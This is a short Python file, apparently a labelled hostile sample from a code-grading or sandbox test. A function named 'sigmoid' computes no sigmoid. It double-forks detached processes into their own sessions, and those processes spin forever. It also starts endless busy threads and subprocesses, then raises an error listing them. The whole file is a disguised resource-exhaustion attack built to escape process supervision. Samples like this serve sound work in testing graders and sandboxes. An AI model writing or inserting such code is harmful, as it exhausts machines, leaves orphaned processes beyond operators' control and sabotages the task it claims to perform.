# It starts processes and threads without end, twice removed from it, in sessions of their own.
# It earns 0.

import os, subprocess, sys, threading

def sigmoid(x):
    words = []
    for _ in range(50):
        try:
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    while True:
                        pass
                os._exit(0)
            words.append("process")
        except OSError:
            pass
        try:
            threading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()
            words.append("thread")
        except RuntimeError:
            pass
        try:
            subprocess.Popen([sys.executable, "-c", "while True: pass"])
            words.append("program")
        except OSError:
            pass
    raise ValueError(f"SEEN True {words}")
